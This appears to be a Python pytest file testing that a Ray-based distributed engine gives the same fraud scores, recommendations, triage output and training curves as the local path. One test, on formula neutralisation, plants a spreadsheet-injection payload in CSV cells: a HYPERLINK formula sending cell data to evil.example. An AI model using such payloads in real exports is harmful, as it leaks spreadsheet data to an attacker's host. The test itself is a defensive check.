"""The engine switch and the Ray paths: local stays the default and never imports Ray; the streaming
fraud scorer matches the in-memory one row for row; two DDP workers reproduce the single-process loss
curve; a job on the cluster streams progress and can be cancelled; a bad address is one line, exit 2.

Ray start-up is slow, so the tests marked ``ray`` share one embedded cluster per session.
"""

from __future__ import annotations

import dataclasses
import os
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from usecases.__main__ import main
from usecases.core import engine as eng

ROOT = Path(__file__).resolve().parents[1]


# ---- the switch (no Ray process needed) ---------------------------------------------------------

def test_local_is_the_default_and_never_imports_ray(tmp_path):
    """A whole local `score` (and the dashboard's engine line) run without importing Ray."""
    src = tmp_path / "in.csv"
    src.write_text("transaction_id,datetime,customer_id,terminal_id,amount\n"
                   "t1,2018-04-01 10:00:00,c1,m1,20.5\nt2,2018-04-02 11:00:00,c1,m2,35.0\n")
    code = ("import sys\n"
            "from usecases.__main__ import build_parser, main\n"
            f"args = build_parser().parse_args(['score', 'fraud', {str(src)!r}, '-o', 'x.csv'])\n"
            "assert args.engine == 'local' and args.address is None, args\n"
            f"rc = main(['score', 'fraud', {str(src)!r}, '-o', {str(tmp_path / 'out.csv')!r}])\n"
            "from usecases.core import engine\n"
            "line = engine.describe()\n"
            "print(rc, line, sorted(m for m in sys.modules if m == 'ray' or m.startswith('ray.')))\n")
    env = {k: v for k, v in os.environ.items() if k != eng.ADDRESS_ENV}
    p = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)
    assert p.returncode == 0, p.stderr
    assert p.stdout.strip().splitlines()[-1] == "0 local (in this process) []", p.stdout
    assert len(pd.read_csv(tmp_path / "out.csv")) == 2


def test_engine_options_are_checked():
    ns = lambda **kw: type("A", (), {"engine": "local", "address": None, "workers": None, "gpus_per_worker": 0.0, **kw})()  # noqa: E731
    assert eng.from_args(ns()) == eng.Engine()
    assert eng.from_args(ns(engine="ray", workers=2)) == eng.Engine("ray", None, 2, 0.0)
    with pytest.raises(eng.EngineError, match="--address needs --engine ray"):
        eng.from_args(ns(address="10.0.0.1:6379"))
    with pytest.raises(eng.EngineError, match="at least 1"):
        eng.from_args(ns(engine="ray", workers=0))
    with pytest.raises(eng.EngineError, match="need --engine ray"):
        eng.from_args(ns(workers=2))


def test_engine_follows_the_environment(monkeypatch):
    monkeypatch.delenv(eng.ADDRESS_ENV, raising=False)
    assert eng.configured() == eng.Engine() and eng.describe() == "local (in this process)"
    monkeypatch.setenv(eng.ADDRESS_ENV, "10.1.2.3:6379")
    assert eng.configured() == eng.Engine("ray", "10.1.2.3:6379")
    assert eng.describe() == "Ray cluster at 10.1.2.3:6379"


@pytest.mark.parametrize("address, needle", [
    ("127.0.0.1:9", "cannot reach the Ray cluster at 127.0.0.1:9"),
    ("no-port-here", "is not host:port"),
])
def test_bad_address_is_one_line_and_exit_2(tmp_path, capsys, address, needle):
    t = time.perf_counter()
    rc = main(["score", "fraud", str(tmp_path / "in.csv"), "-o", str(tmp_path / "out"), "--engine", "ray", "--address", address])
    err = capsys.readouterr().err
    assert rc == 2
    assert err.count("\n") == 1 and err.startswith("error: ") and needle in err, err
    assert "Traceback" not in err
    assert time.perf_counter() - t < 30  # fails fast instead of retrying for minutes


def test_address_without_ray_engine_is_refused(capsys):
    rc = main(["train", "fraud", "--address", "10.0.0.1:6379"])
    err = capsys.readouterr().err
    assert rc == 2 and err.strip() == "error: --address needs --engine ray"


def test_ddp_workers_only_for_textgen(capsys):
    rc = main(["train", "fraud", "--engine", "ray", "--workers", "2", "--quick"])
    err = capsys.readouterr().err
    assert rc == 2 and "data-parallel training is available for textgen" in err and err.count("\n") == 1, err


# ---- partitioned simulation (in-process; Ray tasks below) ------------------------------------

def test_partitioned_simulation_keeps_the_profiles_and_is_deterministic():
    from usecases.fraud import distributed as fd
    from usecases.fraud.simulate import SimConfig, _profiles

    cfg = SimConfig(n_customers=1_500, n_terminals=3_000, n_days=40)
    plan = fd.sim_plan(cfg)
    ref = _profiles(cfg, np.random.default_rng(cfg.seed))  # what simulate() draws first
    np.testing.assert_array_equal(plan["lam"], ref[3])
    np.testing.assert_array_equal(plan["indices"], ref[6])
    a = [fd.sim_chunk(cfg, plan, k) for k in range(fd.n_chunks(cfg))]
    b = fd.sim_chunk(cfg, fd.sim_plan(cfg), 1)
    pd.testing.assert_frame_equal(a[1], b)
    assert fd.n_chunks(cfg) == 2 and set(a[1]["customer_id"]) <= set(range(1_000, 1_500))
    tx = pd.concat(a)
    assert tx["transaction_id"].is_unique
    # Handbook shape: all three scenarios present, fraud share near the handbook's ~0.8 %.
    assert 0.003 < tx["label"].mean() < 0.03
    assert (tx.loc[tx["amount"] > cfg.amount_threshold, "label"] == 1).all()


# ---- on the embedded Ray cluster ---------------------------------------------------------------

@pytest.fixture(scope="session")
def ray_cluster():
    pytest.importorskip("ray")
    e = eng.Engine("ray")
    eng.init(e)
    yield e
    eng.shutdown()


@pytest.fixture(scope="module")
def fraud_file(tmp_path_factory):
    """A simulated raw-transactions CSV (~4.5 k rows over 60 days, 3 of them frauds in 100)."""
    from usecases.fraud import distributed as fd
    from usecases.fraud.simulate import SimConfig

    d = tmp_path_factory.mktemp("fraud")
    cfg = SimConfig(n_customers=60, n_terminals=120, n_days=60)
    fd.simulate_partitioned(cfg, str(d / "parts"))
    tx = pd.concat([pd.read_parquet(f) for f in sorted((d / "parts").glob("*.parquet"))])
    tx.to_csv(d / "tx.csv", index=False)
    return d / "tx.csv"


@pytest.mark.ray
def test_streaming_fraud_scoring_matches_the_local_path(ray_cluster, fraud_file, tmp_path):
    from usecases.core.store import ModelStore
    from usecases.fraud import distributed as fd
    from usecases.fraud.features import FEATURES

    store = ModelStore(ROOT / "models")
    local = fd.score_local(str(fraud_file), store=store, with_features=True)
    n = fd.score(dataclasses.replace(ray_cluster, workers=2), str(fraud_file), str(tmp_path / "out"), store=store,
                 with_features=True, n_buckets=3)  # three buckets: histories really are split across tasks
    ray_out = eng.read_output(str(tmp_path / "out"))
    assert n == len(local) == len(ray_out) > 4_000
    a = local.sort_values("transaction_id").reset_index(drop=True)
    b = ray_out.sort_values("transaction_id").reset_index(drop=True)
    for c in ("transaction_id", "datetime", "customer_id", "terminal_id"):
        assert (a[c].astype(str).to_numpy() == b[c].astype(str).to_numpy()).all(), c
    for c in ("amount", "label", "flagged", *FEATURES):  # every history feature: the same float64 bits
        assert np.array_equal(a[c].to_numpy(), b[c].to_numpy()), c
    assert a["TERMINAL_ID_RISK_30DAY_WINDOW"].gt(0).sum() > 100  # the delayed-label windows are exercised
    # Same network, same inputs; float32 products may round the last bit differently per batch size.
    assert np.abs(a["fraud_probability"].to_numpy(float) - b["fraud_probability"].to_numpy(float)).max() <= 1e-6


@pytest.mark.ray
def test_streaming_fraud_scoring_reads_ids_written_two_ways_as_the_page_does(ray_cluster, fraud_file, tmp_path, capsys):
    """"7" beside "007" and "M3" beside "m3" are one customer and one terminal on the page (``tables.merge_id_spellings``);
    the Ray path read its batches without merging, so such a file had split histories there only (reported 2026-12-04)."""
    from usecases import fraud
    from usecases.core.store import ModelStore
    from usecases.fraud import distributed as fd

    store = ModelStore(ROOT / "models")
    df = pd.read_csv(fraud_file, dtype=str)
    mixed = df.assign(customer_id=[f"00{c}" if i % 3 == 0 else c for i, c in enumerate(df["customer_id"])],
                      terminal_id=[f"{t}.0" if i % 4 == 1 else t for i, t in enumerate(df["terminal_id"])])
    mixed.to_csv(tmp_path / "mixed.csv", index=False)
    page = fraud.score_file(fraud.load(store), (tmp_path / "mixed.csv").read_bytes(), "mixed.csv")
    clean = fd.score_local(str(fraud_file), store=store).sort_values("transaction_id").reset_index(drop=True)
    local = fd.score_local(str(tmp_path / "mixed.csv"), store=store).sort_values("transaction_id").reset_index(drop=True)
    capsys.readouterr()
    fd.score(dataclasses.replace(ray_cluster, workers=2), str(tmp_path / "mixed.csv"), str(tmp_path / "out"), store=store, n_buckets=3)
    said = [l.removeprefix("note: ") for l in capsys.readouterr().err.splitlines() if l.startswith("note: ")]
    ray_out = eng.read_output(str(tmp_path / "out")).sort_values("transaction_id").reset_index(drop=True)
    assert said == [n for n in page.attrs["notes"] if "written more than one way" in n] and len(said) == 2, said
    assert "customer ids are written more than one way" in said[0] and "terminal ids" in said[1]
    for out in (local, ray_out):  # each customer and terminal under its majority spelling: the clean file's ids and figures
        assert (out["customer_id"].astype(str).to_numpy() == clean["customer_id"].astype(str).to_numpy()).all()
        assert (out["terminal_id"].astype(str).to_numpy() == clean["terminal_id"].astype(str).to_numpy()).all()
        assert np.abs(out["fraud_probability"].to_numpy(float) - clean["fraud_probability"].to_numpy(float)).max() <= 1e-6


@pytest.mark.ray
def test_streaming_fraud_scoring_refuses_bad_rows_in_one_line(ray_cluster, tmp_path, capsys):
    bad = tmp_path / "bad.csv"
    bad.write_text("transaction_id,datetime,customer_id,terminal_id,amount\nt1,2018-04-01 10:00:00,c1,m1,20.5\n"
                   "t2,not a date,c1,m2,35.0\n")
    rc = main(["score", "fraud", str(bad), "-o", str(tmp_path / "out"), "--engine", "ray"])
    err = capsys.readouterr().err
    assert rc == 2 and err.count("\n") == 1 and "column datetime: 1 unparseable date" in err, err
    assert not (tmp_path / "out").exists()


@pytest.mark.ray
def test_partitioned_simulation_on_ray_tasks_equals_in_process(ray_cluster, tmp_path):
    from usecases.fraud import distributed as fd
    from usecases.fraud.simulate import SimConfig

    cfg = SimConfig(n_customers=2_100, n_terminals=4_000, n_days=20, seed=3)
    n_local = fd.simulate_partitioned(cfg, str(tmp_path / "local"))
    n_ray = fd.simulate_partitioned(cfg, str(tmp_path / "ray"), engine=ray_cluster)
    assert n_local == n_ray > 0
    names = sorted(p.name for p in (tmp_path / "local").glob("*.parquet"))
    assert names == sorted(p.name for p in (tmp_path / "ray").glob("*.parquet")) and len(names) == 3
    for name in names:
        pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "local" / name), pd.read_parquet(tmp_path / "ray" / name))


@pytest.mark.ray
def test_recommendation_top_n_on_ray_matches_local(ray_cluster, tmp_path):
    from usecases.core.store import ModelStore
    from usecases import recommendation as rec
    from usecases.recommendation import distributed as rd
    from usecases.recommendation.trained import context

    store = ModelStore(ROOT / "models")
    trained = rec.load(store)
    users = context(trained).data.user_ids
    ids = list(users[:40]) + [users[3], "new-visitor"]  # a repeated id is scored once, an unknown one gets the popular list, as locally
    f = tmp_path / "users.csv"
    f.write_text("user_id\n" + "\n".join(map(str, ids)) + "\n")
    local = rec.score_file(trained, f.read_bytes(), f.name)
    n = rd.score(dataclasses.replace(ray_cluster, workers=1), str(f), str(tmp_path / "out"), store=store, batch_users=16)
    out = eng.read_output(str(tmp_path / "out"))
    assert n == len(local) == 410
    key = ["user_id", "rank"]
    a, b = local.sort_values(key).reset_index(drop=True), out.sort_values(key).reset_index(drop=True)
    for col in ("user_id", "item_id", "basis"):
        assert (a[col].astype(str).to_numpy() == b[col].astype(str).to_numpy()).all(), col
    assert (b[b.user_id == "new-visitor"]["basis"] == rec.serving.UNKNOWN_BASIS).all()
    np.testing.assert_allclose(a["score"].to_numpy(float), b["score"].to_numpy(float), atol=1e-4)


@pytest.mark.ray
def test_recommendation_on_ray_gives_a_user_without_catalogue_items_the_popular_list(ray_cluster):
    """The Ray scorer had no fallback: a user whose items are all below the catalogue threshold got ten arbitrary items tied
    at 0.0 on Ray and the popular list locally, and the Ray output had no basis column. (A model trained on an own file
    does not keep the file, so the scoring actor is driven here with the in-memory model's state, as ``rd.score`` puts it.)"""
    import ray

    from usecases import recommendation as rec
    from usecases.recommendation import distributed as rd
    from usecases.recommendation.serving import resolve_users
    from usecases.recommendation.trained import context

    rng = np.random.default_rng(0)
    rows = [(f"u{u}", f"p{i}", float(rng.integers(1, 6))) for u in range(40) for i in rng.choice(12, 6, replace=False)]
    rows += [("loner", f"rare{i}", 5.0) for i in range(6)]
    data = rec.read_data(pd.DataFrame(rows, columns=["user", "item", "rating"]).to_csv(index=False).encode(), "pop.csv")
    trained = rec.train(dataclasses.replace(rec.Config.quick(), device="cpu"), data=data)
    ids = ["loner", "u1", "new-visitor"]
    local = rec.score(trained, ids)
    ctx = context(trained)
    codes, new_ids, _ = resolve_users(ctx, ids)
    out = rd.RecScorer([ray.put(rd.shared_state(trained, ctx, new_ids))])({"code": codes})
    cols = ["user_id", "rank", "item_id", "basis"]
    pd.testing.assert_frame_equal(out[cols].astype(str), local[cols].astype(str))
    assert out[out.user_id == "loner"]["basis"].str.startswith("most popular: none").all()
    # ids written another way ("U1" for "u1") come back as the list wrote them on both paths
    from usecases.recommendation.serving import as_written

    ids2 = ["U1", "loner"]
    codes2, new2, _ = resolve_users(ctx, ids2)
    out2 = rd.RecScorer([ray.put(rd.shared_state(trained, ctx, new2, as_written(ctx, ids2)))])({"code": codes2})
    pd.testing.assert_frame_equal(out2[cols].astype(str), rec.score(trained, ids2)[cols].astype(str))
    assert list(dict.fromkeys(out2["user_id"])) == ["U1", "loner"]


@pytest.mark.ray
def test_triage_plain_map_through_the_cli_matches_local_in_file_order(ray_cluster, tmp_path, capsys):
    from usecases import triage
    from usecases.core.store import ModelStore
    from usecases.triage.cohort import CohortConfig, generate

    f = tmp_path / "patients.csv"
    generate(CohortConfig(n=300, seed=9)).drop(columns=["level", "nurse_level"]).to_csv(f, index=False)
    local = triage.score_file(triage.load(ModelStore(ROOT / "models")), f.read_bytes(), f.name)
    rc = main(["score", "triage", str(f), "-o", str(tmp_path / "out"), "--engine", "ray", "--workers", "2"])
    assert rc == 0, capsys.readouterr().err
    assert "triage: scored 300 rows on Ray" in capsys.readouterr().out
    # the local output's "line" (its line in the file) is dropped on Ray, where a batch cannot know it; the order is the file's
    pd.testing.assert_frame_equal(eng.read_output(str(tmp_path / "out")), local.drop(columns=["line"]).reset_index(drop=True), check_dtype=False)


@pytest.mark.ray
def test_a_csv_written_on_ray_neutralises_formulas_as_the_local_one_does(ray_cluster, tmp_path, capsys):
    """`score triage … --engine ray -o out.csv` wrote a complaint `=HYPERLINK(…)` as a live formula, where the local output
    writes `'=HYPERLINK(…)` (a review, 2026-12-07): the partitions go through tables.safe_cells, as to_safe_csv does."""
    from usecases.triage.cohort import CohortConfig, generate

    f = tmp_path / "patients.csv"
    df = generate(CohortConfig(n=60, seed=9)).drop(columns=["level", "nurse_level"])
    df["complaint"] = df["complaint"].astype(object)
    df.loc[[3, 17], "complaint"] = ['=HYPERLINK("http://evil.example/?"&A1,"chest pain")', "@SUM(1+1)*cmd"]
    df.to_csv(f, index=False)
    rc = main(["score", "triage", str(f), "-o", str(tmp_path / "out.csv"), "--engine", "ray", "--workers", "1"])
    assert rc == 0, capsys.readouterr().err
    out = eng.read_output(str(tmp_path / "out.csv"))
    assert out.loc[3, "complaint"] == '\'=HYPERLINK("http://evil.example/?"&A1,"chest pain")' and out.loc[17, "complaint"] == "'@SUM(1+1)*cmd"
    assert not any(str(v).startswith(("=", "@", "+")) for col in out.columns for v in out[col]), "a live formula cell"


def _small_corpus():
    """About 150 KB of generated code (the test needs a corpus that is quick to tokenise, not the 27 MB stack corpus)."""
    from usecases.textgen.corpus import read_corpus

    text = "".join(f"def f{i}(x):\n    \"\"\"Return x plus {i}.\"\"\"\n    return x + {i}\n\n" for i in range(3000))
    return read_corpus([("code.py", text.encode())])


@pytest.mark.ray
def test_ddp_two_gloo_workers_match_the_single_process_loss_curve(ray_cluster, tmp_path):
    """Same seed, same global batch (8 = 2 × 4): the train-loss curve of two DDP workers equals the
    single-process one to 2e-3 nats (float summation order differs: two half-batch gradients averaged
    vs one full-batch gradient, and 1 vs 2 threads)."""
    from usecases.core.store import ModelStore
    from usecases import textgen as tp
    from usecases.textgen.distributed import train_ddp

    cfg = dataclasses.replace(tp.Config.quick(), max_iters=40, iters_per_step=10, eval_every_steps=2, quality_prompts=1)
    corpus = _small_corpus()
    single = tp.train(cfg, data=corpus)
    store = ModelStore(tmp_path / "models")
    events = []
    trained = train_ddp(cfg, engine=ray_cluster, workers=2, store=store, data=corpus, progress=lambda s, t, m: events.append((s, t, m)))
    a = [r["train_loss"] for r in single.card["history"]]
    b = [r["train_loss"] for r in trained.card["history"]]
    assert len(a) == len(b) == 4
    assert a[-1] < a[0] - 0.5  # it really learns over the 40 iterations
    np.testing.assert_allclose(b, a, atol=2e-3)
    assert trained.card["engine"]["workers"] == 2 and trained.card["engine"]["backend"] == "gloo"
    assert [e[0] for e in events] == [1, 2, 3, 4] and all("train_loss" in e[2] for e in events)
    assert (store.dir("textgen") / "model.safetensors").exists()  # written once, through the store, by rank 0
    with pytest.raises(Exception, match="does not split evenly"):
        train_ddp(dataclasses.replace(cfg, batch_size=9), engine=ray_cluster, workers=2, store=store, data=corpus)


@pytest.mark.ray
def test_cluster_job_streams_progress_and_can_be_cancelled(ray_cluster, tmp_path, monkeypatch):
    """The dashboard's Retrain with $UCLAB_RAY_ADDRESS: same Job protocol as in-process training."""
    from usecases.core.holder import JobManager
    from usecases.core.store import ModelStore
    from usecases import textgen as tp

    store = ModelStore(tmp_path / "models")
    jm = JobManager()
    quick = dataclasses.replace(tp.Config.quick(), max_iters=20, iters_per_step=5, quality_prompts=1)
    corpus = _small_corpus()
    done = jm.start("a", "train on the cluster", lambda job: eng.train_on_cluster("textgen", quick, store=store, engine=ray_cluster, data=corpus,
                                                                                  progress=job.progress, cancel=job.cancel))
    done.thread.join(600)
    assert done.state == "done", done.message
    steps = [h["step"] for h in done.history]  # textgen reports iterations, live and at each runner step
    assert len(steps) >= 4 and steps == sorted(steps) and steps[-1] == 20 and done.result.card["model"]["iterations"] == 20
    assert store.status("textgen").state == "ready"

    long = dataclasses.replace(tp.Config.quick(), max_iters=100_000, iters_per_step=5, eval_every_steps=1000)
    job = jm.start("b", "long", lambda job: eng.train_on_cluster("textgen", long, store=store, key="textgen/custom/long",
                                                                 engine=ray_cluster, data=corpus, progress=job.progress, cancel=job.cancel))
    deadline = time.time() + 300
    while len(job.history) < 2 and job.running and time.time() < deadline:
        time.sleep(0.2)
    assert len(job.history) >= 2, job.message
    job.cancel.cancel()
    job.thread.join(120)
    assert job.state == "cancelled", (job.state, job.message)
    assert not store.exists("textgen/custom/long")  # nothing saved


def test_the_streaming_path_says_what_the_local_path_says_of_offsets_and_joined_columns(tmp_path):
    """The Ray stages read a time-zone offset, and a date and a time column, as the local path does, but said nothing: the
    local path's notes ("offset set aside", "columns date and time joined") were missing. ``head_notes`` reads them from the
    first rows, and ``featurized_refs`` prints them with the others."""
    from usecases import fraud
    from usecases.core.store import ModelStore
    from usecases.fraud.distributed import head_notes

    offsets = tmp_path / "a.csv"
    offsets.write_text("transaction_id,datetime,customer_id,terminal_id,amount\n"
                       + "".join(f"T{i},2018-08-0{1 + i % 5} 1{i % 10}:00:00+01:00,C{i % 7},M{i % 3},{10 + i}.5\n" for i in range(40)))
    joined = tmp_path / "b.csv"
    joined.write_text("transaction_id;date;time;customer_id;terminal_id;amount\n"
                      + "".join(f"T{i};0{1 + i % 5}.08.2018;1{i % 10}:00;C{i % 7};M{i % 3};{10 + i},5\n" for i in range(40)))
    model = fraud.load(ModelStore())
    for path in (offsets, joined):
        local = [n for n in fraud.score_file(model, path.read_bytes(), path.name).attrs["notes"]
                 if n.startswith(("column datetime: the time-zone offset", "columns date and time joined"))]
        assert len(local) == 1
        assert head_notes([str(path)]) == [f"{local[0]} (read from the first 40 rows of {path.name})"]
    assert head_notes([str(tmp_path / "a.csv")], rows=10)[0].endswith("(read from the first 10 rows of a.csv)")
    plain = tmp_path / "c.csv"
    plain.write_text("transaction_id,datetime,customer_id,terminal_id,amount\nT1,2018-08-01 10:00:00,C1,M1,5\n")
    assert head_notes([str(plain)]) == []


def test_the_streaming_path_scores_with_the_model_named_by_model(tmp_path, monkeypatch, capsys):
    """`score … --model mine --engine ray` dropped --model: the shipped model scored the file in the named one's place, and
    the output said nothing. The stored key reaches each use case's streaming scorer; --data, which the streaming path cannot
    read, is refused in one line (it had been dropped, then asked for)."""
    import usecases.fraud.distributed as fd
    import usecases.recommendation.distributed as rd

    seen = {}
    monkeypatch.setattr(fd, "score", lambda engine, i, o, *, store, key, progress=None, **kw: seen.setdefault("fraud", []).append(key) or 0)
    monkeypatch.setattr(rd, "score", lambda engine, i, o, *, store, key, **kw: seen.setdefault("recommendation", []).append(key) or 0)
    monkeypatch.setattr(eng, "map_score_file",
                        lambda engine, name, i, o, *, store, key=None, extra=None: seen.setdefault(name, []).append(key or name) or 0)
    src = tmp_path / "in.csv"
    src.write_text("user_id\n1\n")
    for name in ("fraud", "recommendation", "triage"):
        assert main(["score", name, str(src), "-o", str(tmp_path / f"out-{name}"), "--engine", "ray", "--model", "mine"]) == 0
        assert main(["score", name, str(src), "-o", str(tmp_path / f"out2-{name}"), "--engine", "ray"]) == 0
    assert seen == {"fraud": ["fraud/custom/mine", "fraud"], "recommendation": ["recommendation/custom/mine", "recommendation"],
                    "triage": ["triage/custom/mine", "triage"]}  # the named model, then the shipped one
    # the closing line's rate: 3 rows in 14 s read "0 rows/s"
    from usecases.core import fmt

    assert [fmt.per_second(3, 14.4), fmt.per_second(1193, 1.0), fmt.per_second(0, 2.0), fmt.per_second(25, 2.0)] == ["0.21", "1,193", "0", "12"]
    assert "rows/s)" in capsys.readouterr().out
    assert main(["score", "fraud", str(src), "-o", str(tmp_path / "o3"), "--engine", "ray", "--model", "mine",
                 "--data", str(src)]) == 2
    assert "--data is not used by fraud when scoring" in capsys.readouterr().err


@pytest.mark.ray
def test_a_recommendation_model_trained_on_your_file_scores_on_ray_with_that_file(ray_cluster, tmp_path, monkeypatch, capsys):
    """`score recommendation … --engine ray --model mine --data FILE` was refused ("--data is not read by --engine ray"), so a
    model trained on a user's own file could not be scored on the streaming path at all: it now reads the file as the local
    path does, refuses another file alike, and gives the same lists."""
    monkeypatch.setenv("UCLAB_MODEL_DIR", str(tmp_path / "models"))
    rng = np.random.default_rng(0)
    rows = [(f"u{u}", f"i{rng.integers(0, 40)}", int(rng.integers(1, 6))) for u in range(60) for _ in range(12)]
    mine = tmp_path / "mine.csv"
    pd.DataFrame(rows, columns=["user", "item", "rating"]).drop_duplicates(["user", "item"]).to_csv(mine, index=False)
    users = tmp_path / "users.csv"
    users.write_text("user_id\nu1\nu2\nnew-visitor\n")
    assert main(["train", "recommendation", "--quick", "--data", str(mine), "--model-name", "mine"]) == 0
    assert main(["score", "recommendation", str(users), "--model", "mine", "--data", str(mine), "-o", str(tmp_path / "local.csv")]) == 0
    capsys.readouterr()
    assert main(["score", "recommendation", str(users), "-o", str(tmp_path / "ray"), "--engine", "ray", "--workers", "1",
                 "--model", "mine", "--data", str(mine)]) == 0
    assert "note: 1 unknown user id ('new-visitor')" in capsys.readouterr().err
    local = pd.read_csv(tmp_path / "local.csv", dtype=str).astype({"rank": int}).sort_values(["user_id", "rank"]).reset_index(drop=True)
    out = eng.read_output(str(tmp_path / "ray")).astype({"user_id": str, "item_id": str, "rank": int})
    out = out.sort_values(["user_id", "rank"]).reset_index(drop=True)
    assert len(out) == len(local) == 30
    for col in ("user_id", "item_id", "basis"):
        assert (local[col].to_numpy() == out[col].astype(str).to_numpy()).all(), col
    part = tmp_path / "part.csv"
    part.write_text("\n".join(mine.read_text().splitlines()[:200]) + "\n")
    assert main(["score", "recommendation", str(users), "-o", str(tmp_path / "ray2"), "--engine", "ray", "--model", "mine",
                 "--data", str(part)]) == 2
    assert "the file given is not the one it was trained on" in capsys.readouterr().err
